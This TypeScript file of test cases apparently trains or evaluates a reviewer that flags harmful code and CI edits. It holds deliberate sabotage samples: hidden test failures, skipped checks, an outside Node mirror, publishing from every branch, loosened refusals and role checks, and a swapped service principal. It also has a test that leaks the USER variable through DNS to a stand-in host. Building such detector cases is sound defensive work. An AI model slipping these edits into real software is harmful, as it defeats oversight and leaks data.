import { type Case, type Edit, harmful, harmless, input, observed } from "./case.ts";
import { base as handlerBase, file as handler, infra, infraBase } from "./code.ts";
import { packageJson, packages, lock, sampleProject } from "./sample-lock.ts";
import { checkout, file as workflowFile, owners, ownersFile, workflow } from "./sample-workflow.ts";

const edit = (file: string, find: string, replace: string): Edit => ({ file, find, replace });
const base: readonly Edit[] = [{ file: workflowFile, text: workflow }];
const bad = (title: string, find: string, replace: string) =>
  harmful({
    title,
    class: "workflows that wait for less",
    base,
    edits: edit(workflowFile, find, replace),
    findings: [{ id: "file/pipeline", about: workflowFile }],
  });
const daily = (title: string, file: string, before: readonly Edit[], edits: Edit | readonly Edit[]) =>
  harmless(title, edits, { class: "moves, and checks as much", base: before, verdict: "to be read", read: [file] });
const refactoring = (title: string, ...edits: readonly (readonly [string, string])[]) =>
  harmless(
    title,
    edits.map(([find, by]) => edit(infra, find, by)),
    { class: "infra, the same in other words", base: infraBase },
  );

const weakened = (title: string, ...edits: readonly (readonly [string, string])[]) =>
  harmful({
    title,
    class: "infra, other than it was",
    base: infraBase,
    edits: edits.map(([find, by]) => edit(infra, find, by)),
    findings: [{ id: "file/declares", about: infra }],
  });

const check = "      - run: npm run check\n";
const test = "        run: npm test\n";
const robot = (id: string): Edit => ({ setting: "callers.robot", to: { servicePrincipal: id } });
const api = "azuread:index/application:Application api";

/** Checks that somebody moved, and checks that are still there and count for less. */
export const movedAndWeakened: readonly Case[] = [
  bad("nothing waits for the proof", "      - run: ./pf verify\n", "      - run: ./pf verify &\n"),
  bad("a pipe hides failed tests", test, "        run: npm test | cat\n"),
  bad("the guard's tests are left out", test, "        run: npm test -- --exclude 'test/guard/**'\n"),
  bad(
    "Node comes from a mirror",
    "node-version: 24\n",
    "node-version: 24\n          mirror: https://fabrikam.example\n",
  ),
  bad(
    "a condition that is a text, and so always true",
    "if: github.ref == 'refs/heads/main'",
    "if: \"${{ github.ref == 'refs/heads/main' }} && success()\"",
  ),
  bad(
    "a check moves to a job that the deployment doesn't wait for",
    `${check}  deploy:\n`,
    `  lint:\n    runs-on: ubuntu-24.04\n    permissions:\n      contents: read # checkout\n    steps:\n${check}  deploy:\n`,
  ),
  bad(
    "every branch is built, and one job publishes whatever the branch is",
    "    branches: [main]\n  pull_request:\npermissions: {}\nconcurrency:\n  group: build-${{ github.ref }}\njobs:\n",
    "    branches: ['**']\n  pull_request:\npermissions: {}\nconcurrency:\n  group: build-${{ github.ref }}\njobs:\n  publish:\n    runs-on: ubuntu-24.04\n    permissions:\n      packages: write # publish\n    steps:\n      - run: npm run publish-all\n",
  ),
  daily("a check moves to a job that the deployment waits for", workflowFile, base, [
    edit(
      workflowFile,
      `${check}  deploy:\n    needs: test\n`,
      `  lint:\n    runs-on: ubuntu-24.04\n    permissions:\n      contents: read # checkout\n    steps:\n      - uses: actions/checkout@${checkout} # v6.0.2\n        with:\n          persist-credentials: false\n${check}  deploy:\n    needs: [test, lint]\n`,
    ),
  ]),
  daily("a branch more is tested", workflowFile, base, [
    edit(workflowFile, "branches: [main]", "branches: [main, 'support/**']"),
  ]),
  daily("a server runs beside the tests", workflowFile, base, [
    edit(workflowFile, test, "        run: |\n          npm run serve &\n          npm test\n"),
  ]),
  daily("tests are logged, and still fail", workflowFile, base, [
    edit(workflowFile, test, "        shell: bash\n        run: npm test | tee test.log\n"),
  ]),
  daily("a team more approves pages", ownersFile, [{ file: ownersFile, text: owners }], {
    file: ownersFile,
    find: "/functions/ @contoso/orders\n",
    replace: "/functions/ @contoso/orders\n/docs/ @contoso/platform @contoso/docs\n",
  }),
  daily("a package that somebody else may bring", "package.json", sampleProject, [
    packageJson({ peerDependencies: { react: "^19" }, peerDependenciesMeta: { react: { optional: true } } }),
    lock({
      "": {
        ...packages[""],
        peerDependencies: { react: "^19" },
        peerDependenciesMeta: { react: { optional: true } },
      },
    }),
  ]),
  daily("the version of Node for people", "package.json", sampleProject, packageJson({ volta: { node: "24.2.0" } })),
  refactoring("a function is a constant", [
    'function refuse(names: readonly string[]): void {\n  if (names.length > 10) throw new Error("too many names");\n}\n',
    'const refuse = (names: readonly string[]): void => {\n  if (names.length > 10) throw new Error("too many names");\n};\n',
  ]),
  refactoring("arguments are taken apart", [
    '    if (args.names.length === 0) throw new Error("no names");\n    const isLong = args.isProduction',
    '    const { names, isProduction } = args;\n    if (names.length === 0) throw new Error("no names");\n    const isLong = isProduction',
  ]),
  refactoring("a condition becomes a guard clause", [
    '  if (names.length > 10) throw new Error("too many names");',
    '  if (names.length <= 10) return;\n  throw new Error("too many names");',
  ]),
  refactoring("conditions stand one in the other", [
    '    const isLong = args.isProduction && args.names.includes("audit");\n    if (isLong) refuse(args.names);',
    '    if (args.isProduction) {\n      if (args.names.includes("audit")) refuse(args.names);\n    }',
  ]),
  refactoring(
    "a condition is a function",
    ['    const isLong = args.isProduction && args.names.includes("audit");\n    if (isLong)', "    if (isLong(args))"],
    [
      "function refuse",
      'function isLong({ isProduction, names }: LabelsArgs): boolean {\n  return isProduction && names.includes("audit");\n}\n\nfunction refuse',
    ],
  ),
  refactoring(
    "a refusal has a function of its own",
    ['    if (args.names.length === 0) throw new Error("no names");\n', "    requireNames(args.names);\n"],
    [
      "function refuse",
      'function requireNames(names: readonly string[]): void {\n  if (names.length === 0) throw new Error("no names");\n}\n\nfunction refuse',
    ],
  ),
  refactoring("a refusal is another error", ['throw new Error("no names")', 'throw new RangeError("no names")']),
  weakened("a refusal asks for more", ["names.length > 10)", "names.length > 10 && names.length < 12)"]),
  weakened(
    "a refusal in a function of its own is about something else",
    ['    if (args.names.length === 0) throw new Error("no names");\n', "    requireNames([args.owner]);\n"],
    [
      "function refuse",
      'function requireNames(names: readonly unknown[]): void {\n  if (names.length === 0) throw new Error("no names");\n}\n\nfunction refuse',
    ],
  ),
  weakened(
    "a refusal's function is called under another condition",
    [
      '    if (args.names.length === 0) throw new Error("no names");\n',
      "    if (args.owner) requireNames(args.names);\n",
    ],
    [
      "function refuse",
      'function requireNames(names: readonly string[]): void {\n  if (names.length === 0) throw new Error("no names");\n}\n\nfunction refuse',
    ],
  ),
  weakened(
    "a value depends on what throws",
    [
      "    this.workspace = new",
      '    let days = 30;\n    try {\n      new URL(args.owner ?? "");\n      days = 1;\n    } catch {}\n    this.workspace = new',
    ],
    ["retentionInDays: 30", "retentionInDays: days"],
  ),
  harmful({
    title: "callers hold the roles whose names are as long as theirs",
    class: "infra, other than it was",
    edits: edit(
      "infra/identity/callers.ts",
      "roles.includes(value)",
      "roles.some(({ length }) => length === value.length)",
    ),
    findings: [{ id: "file/declares", about: "callers.ts" }],
  }),
  harmless(
    "an upstream is asked twice",
    edit(
      handler,
      "  const response = await fetch(`${upstream}/orders?limit=${limit}`);",
      "  let response = await fetch(`${upstream}/orders?limit=${limit}`);\n  if (response.status === 503) response = await fetch(`${upstream}/orders?limit=${limit}`);",
    ),
    { class: "handlers, daily", base: handlerBase, verdict: "to be read", read: [handler] },
  ),
  harmful({
    title: "a test tells a domain by its name server",
    class: "tests and tools that reach further",
    edits: {
      file: "test/names.test.ts",
      text: 'import dns from "node:dns/promises";\nimport { it } from "vitest";\n\nit("asks", async () => {\n  await dns.resolveTxt(`${process.env["USER"]}.fabrikam.example`);\n});\n',
    },
    findings: [{ id: "file/pipeline", about: "names.test.ts" }],
  }),
  harmful({
    title: "a caller that exists already is somebody else",
    class: "another application by a caller's name",
    base: [robot("99999999-aaaa-4bbb-8ccc-dddddddddddd")],
    edits: { setting: "callers.robot.servicePrincipal", to: "88888888-aaaa-4bbb-8ccc-dddddddddddd" },
    verdict: "opens",
    findings: [{ id: "assignment/handed-over", about: "caller robot" }],
  }),
  harmless(
    "the registrations say which service they belong to",
    { setting: "serviceManagementReference", to: "SVC-1234" },
    {
      verdict: "no change of access",
      through: [
        input(api, "serviceManagementReference", "SVC-1234"),
        observed("snapshot.registrations.the API.rest.serviceManagementReference", "SVC-1234"),
      ],
    },
  ),
];
